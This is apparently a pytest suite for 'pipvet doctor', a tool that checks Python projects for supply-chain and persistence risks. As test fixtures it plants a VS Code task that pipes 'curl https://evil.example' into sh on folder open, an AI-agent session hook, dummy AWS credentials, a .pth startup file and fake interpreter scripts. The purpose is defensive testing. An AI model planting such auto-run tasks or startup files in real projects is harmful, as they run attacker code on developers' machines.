"""`pipvet doctor` end to end: a bare project and a fully set-up one (set up by the real
`pipvet init`, a real venv with real wheels, cached advisory data from a small OSV bucket)
score differently, each failing or warning check naming its fix."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from pipvet import __version__
from pipvet.cli import Output, main
from pipvet.project.doctor_files import ide_task_check
from pipvet.project.templates import vscode_task
from pipvet.project.vscode import inspect_tasks
from pipvet.system.process import SubprocessRunner
from tests.support.osv_bucket import write_bucket
from tests.support.wheels import build_wheel, create_venv, pip_install

# A day ago: the advisory data is current (older than max-data-age-days would only warn).
FRESH = (datetime.now(UTC) - timedelta(days=1)).strftime("%Y-%m-%dT%H:%M:%SZ")


def run(argv: list[str]) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = main(argv, Output(stdout=out, stderr=err))
    return code, out.getvalue(), err.getvalue()


def doctor(*extra: str) -> tuple[int, dict[str, dict[str, Any]]]:
    code, out, err = run(["doctor", "--format", "json", *extra])
    assert "Traceback" not in err
    data = json.loads(out)
    return code, {c["id"]: c for c in data["checks"]}


@pytest.fixture
def machine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A fake home, a clean environment and a small advisory bucket; returns the home."""
    home = tmp_path / "home"
    home.mkdir()
    keep = {"PATH", "LANG", "LC_ALL", "TMPDIR", "SYSTEMROOT"}
    for key in list(os.environ):
        if key not in keep:
            monkeypatch.delenv(key)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("PIPVET_CACHE_DIR", str(tmp_path / "cache"))
    record = {
        "id": "PYSEC-2099-7",
        "modified": FRESH,
        "summary": "vulnerable lib",
        "affected": [{"package": {"ecosystem": "PyPI", "name": "vulnlib"},
                      "ranges": [{"type": "ECOSYSTEM",
                                  "events": [{"introduced": "0"}, {"fixed": "2.0"}]}]}],
    }  # fmt: skip
    monkeypatch.setenv("PIPVET_OSV_URL", str(write_bucket(tmp_path / "osv", [record])))
    return home


def test_bare_project_fails_and_names_every_fix(
    machine: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    project = tmp_path / "bare"
    project.mkdir()
    (project / "pipvet.toml").write_text("", encoding="utf-8")
    (project / "requirements.txt").write_text(
        "--extra-index-url https://internal.example/simple\n--trusted-host internal.example\n"
        "requests==2.31.0\nflask>=3.0\n",
        encoding="utf-8",
    )
    (project / "poetry.lock").write_text("", encoding="utf-8")
    (project / ".vscode").mkdir()
    task = {"label": "warm cache", "type": "shell", "command": "curl https://evil.example | sh"}
    task["runOptions"] = {"runOn": "folderOpen"}  # type: ignore[assignment]
    foreign = {"version": "2.0.0", "tasks": [task]}
    (project / ".vscode" / "tasks.json").write_text(json.dumps(foreign), encoding="utf-8")
    (project / ".claude").mkdir()
    hooks = {
        "hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "python x.py"}]}]}
    }
    (project / ".claude" / "settings.json").write_text(json.dumps(hooks), encoding="utf-8")
    (machine / ".aws").mkdir()
    (machine / ".aws" / "credentials").write_text(
        "[default]\naws_access_key_id = AKIAEXAMPLEEXAMPLE12\n"
        "aws_secret_access_key = abcdEXAMPLEsecretEXAMPLEsecretEXAMPLE1234\n",
        encoding="utf-8",
    )
    monkeypatch.chdir(project)

    code, checks = doctor()
    assert code == 1
    status = {k: v["status"] for k, v in checks.items()}
    assert status == {
        "environment": "fail",
        "pip-guard": "warn",
        "floors": "warn",
        "index-options": "fail",
        "ide-task": "warn",
        "ci-workflow": "warn",
        "audit": "warn",
        "startup-code": "warn",
        "persistence": "warn",
        "exposure": "warn",
    }
    assert "pipvet init" in checks["environment"]["fix"]
    assert "global.require-virtualenv true" in checks["pip-guard"]["fix"]
    assert checks["floors"]["fix"].startswith("pipvet relax")
    assert any("requirements.txt:3" in e for e in checks["floors"]["evidence"])
    assert any("poetry.lock" in e for e in checks["floors"]["evidence"])
    index_evidence = " ".join(checks["index-options"]["evidence"])
    assert "dependency confusion" in index_evidence
    assert "--trusted-host internal.example" in index_evidence
    persistence = " ".join(checks["persistence"]["evidence"])
    assert "warm cache" in persistence
    assert "SessionStart" in persistence
    assert "python x.py" in persistence
    assert "pipvet exposure" in checks["exposure"]["fix"]
    # The words of pipvet exposure: an unknown lifetime is counted with the long-lived ones.
    assert "1 long-lived or of unknown lifetime (" in checks["exposure"]["summary"]
    # never a value
    code, text, _ = run(["doctor"])
    assert "abcdEXAMPLE" not in text
    assert "AKIAEXAMPLE" not in text
    assert "FAIL  Isolated environment" in text
    assert "fix: pipvet relax" in text


@pytest.mark.slow
def test_set_up_project_passes_then_catches_planted_startup_code(
    machine: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    project = tmp_path / "good"
    project.mkdir()
    (project / "requirements.txt").write_text("safelib>=1.0\n", encoding="utf-8")
    wheels = tmp_path / "wheels"
    build_wheel(wheels, "safelib", "1.2")
    venv = create_venv(project / ".venv")
    pip_install(venv, "safelib", find_links=wheels)
    monkeypatch.chdir(project)
    bin_dir = pipvet_on_path(tmp_path / "user-bin")
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    code, _out, err = run(["init", "--no-venv"])
    assert code == 0, err
    (machine / ".config" / "pip").mkdir(parents=True)
    (machine / ".config" / "pip" / "pip.conf").write_text(
        "[global]\nrequire-virtualenv = true\n", encoding="utf-8"
    )
    code, _out, err = run(["db", "sync"])
    assert code == 0, err

    code, checks = doctor()
    failing = {k: (v["status"], v["summary"]) for k, v in checks.items() if v["status"] != "pass"}
    assert failing == {}
    assert code == 0

    # a .pth that runs code and that no RECORD lists: a persistence trick
    (venv.site_packages / "zz_persist.pth").write_text("import os\n", encoding="utf-8")
    code, checks = doctor()
    assert code == 1
    assert checks["startup-code"]["status"] == "fail"
    assert "zz_persist.pth" in checks["startup-code"]["evidence"][0]
    assert "rm " in checks["startup-code"]["fix"]


# ---------------------------------------------------------------------- does the IDE task run


def pipvet_on_path(folder: Path) -> Path:
    """A real ``pipvet`` command, as a pipx or uv tool install puts one on PATH."""
    folder.mkdir(parents=True, exist_ok=True)
    script = folder / "pipvet"
    script.write_text(f'#!/bin/sh\nexec "{sys.executable}" -m pipvet "$@"\n', encoding="utf-8")
    script.chmod(0o755)
    return folder


def write_task(project: Path, task: dict[str, Any]) -> None:
    (project / ".vscode").mkdir(parents=True, exist_ok=True)
    text = json.dumps({"version": "2.0.0", "tasks": [task]})
    (project / ".vscode" / "tasks.json").write_text(text, encoding="utf-8")


def test_task_from_path_passes_only_when_pipvet_answers(tmp_path: Path) -> None:
    project = tmp_path / "proj"
    write_task(project, vscode_task())
    runner = SubprocessRunner(cwd=str(project))
    missing = ide_task_check(project, {"PATH": "/usr/bin:/bin"}, runner)
    assert missing.status == "fail"
    assert "no pipvet on PATH" in missing.summary
    assert f"pipx install pipvet=={__version__}," in (missing.fix or "")
    bin_dir = pipvet_on_path(tmp_path / "bin")
    found = ide_task_check(project, {"PATH": f"{bin_dir}:/usr/bin:/bin"}, runner)
    assert (found.status, found.summary) == (
        "pass",
        f"pipvet's task is present and unchanged, and pipvet {__version__} answers",
    )
    # a pipvet on PATH that does not answer is no pipvet
    broken = tmp_path / "broken"
    broken.mkdir()
    (broken / "pipvet").write_text("#!/bin/sh\necho 'No module named pipvet' >&2\nexit 1\n")
    (broken / "pipvet").chmod(0o755)
    failed = ide_task_check(project, {"PATH": f"{broken}:/usr/bin:/bin"}, runner)
    assert failed.status == "fail"
    assert "does not answer --version (exit 1)" in failed.summary
    assert "No module named pipvet" in failed.evidence


def test_task_with_an_environment_python_without_pipvet_fails(tmp_path: Path) -> None:
    """The task `.venv/bin/python -m pipvet update` where .venv has no pipvet: "No module
    named pipvet" on every folder open, so doctor must not pass it."""
    project = tmp_path / "proj"
    bin_dir = project / ".venv" / "bin"
    # a real environment, without pipvet (the probe runs it isolated: no editable pipvet)
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(project / ".venv")],
                   check=True)  # fmt: skip
    write_task(project, vscode_task("${workspaceFolder}/.venv/bin/python"))
    check = ide_task_check(project, {"PATH": "/usr/bin:/bin"}, SubprocessRunner(cwd="/"))
    assert check.status == "fail"
    assert f"{bin_dir / 'python'} -I -m pipvet --version does not answer" in check.summary
    assert "No module named pipvet" in check.evidence[-1]


def test_doctor_never_runs_an_environment_a_checkout_brought_along(tmp_path: Path) -> None:
    """A task with a valid fingerprint naming tools/bin/python, and tools/pyvenv.cfg beside an
    executable the checkout committed: doctor ran it and reported PASS."""
    project = tmp_path / "proj"
    marker = tmp_path / "ran"
    (project / "tools" / "bin").mkdir(parents=True)
    (project / "tools" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    fake = project / "tools" / "bin" / "python"
    fake.write_text(f"#!/bin/sh\ntouch {marker}\necho pipvet 9.9\n")
    fake.chmod(0o755)
    write_task(project, vscode_task("${workspaceFolder}/tools/bin/python"))
    check = ide_task_check(project, {"PATH": "/usr/bin:/bin"}, SubprocessRunner(cwd="/"))
    assert check.status == "fail"
    assert "which pipvet does not run" in check.summary
    assert not marker.exists()


def test_doctor_never_runs_a_task_pipvet_would_not_write(tmp_path: Path) -> None:
    """The fingerprint is no secret: a cloned repository can carry a matching one."""
    project = tmp_path / "proj"
    marker = tmp_path / "ran"
    evil = project / "evil.sh"
    evil.parent.mkdir(parents=True)
    evil.write_text(f"#!/bin/sh\ntouch {marker}\necho pipvet 1\n")
    evil.chmod(0o755)
    task = vscode_task("${workspaceFolder}/evil.sh")
    write_task(project, task)
    assert inspect_tasks((project / ".vscode" / "tasks.json").read_text()).pipvet == "ok"
    check = ide_task_check(project, {"PATH": "/usr/bin:/bin"}, SubprocessRunner(cwd="/"))
    assert check.status == "fail"
    assert "not a command pipvet writes" in check.summary
    # the shape pipvet writes, pointing at a script the repository carries: not a venv
    tools = project / "tools" / "bin"
    tools.mkdir(parents=True)
    (tools / "python").write_text(f"#!/bin/sh\ntouch {marker}\necho pipvet 1\n")
    (tools / "python").chmod(0o755)
    write_task(project, vscode_task("${workspaceFolder}/tools/bin/python"))
    check = ide_task_check(project, {"PATH": "/usr/bin:/bin"}, SubprocessRunner(cwd="/"))
    assert check.status == "fail"
    assert "is not a virtual environment: pipvet does not run it" in check.summary
    assert not marker.exists()


def test_hostile_project_files_are_read_safely(tmp_path: Path) -> None:
    """From a helper's attacker pass: a FIFO workflow hung doctor, a link to /dev/zero was read
    without end, and tasks.json or .claude/settings.json nested 100,000 deep ended in
    RecursionError (an internal error: nothing checked)."""
    from pipvet.project.doctor_content import persistence_check
    from pipvet.project.doctor_files import ci_check

    project = tmp_path / "proj"
    workflows = project / ".github" / "workflows"
    workflows.mkdir(parents=True)
    os.mkfifo(workflows / "a.yml")
    (workflows / "z.yml").symlink_to("/dev/zero")
    assert ci_check(project).status != "pass"
    deep = "[" * 100_000 + "]" * 100_000
    (project / ".vscode").mkdir()
    (project / ".vscode" / "tasks.json").write_text(deep)
    (project / ".claude").mkdir()
    (project / ".claude" / "settings.json").write_text('{"hooks": ' + deep + "}")
    check = persistence_check(project)
    assert "cannot be read as JSON" in " ".join(check.evidence)
    env = {"PATH": "/usr/bin:/bin"}
    assert "nested too deeply" in ide_task_check(project, env, SubprocessRunner()).summary
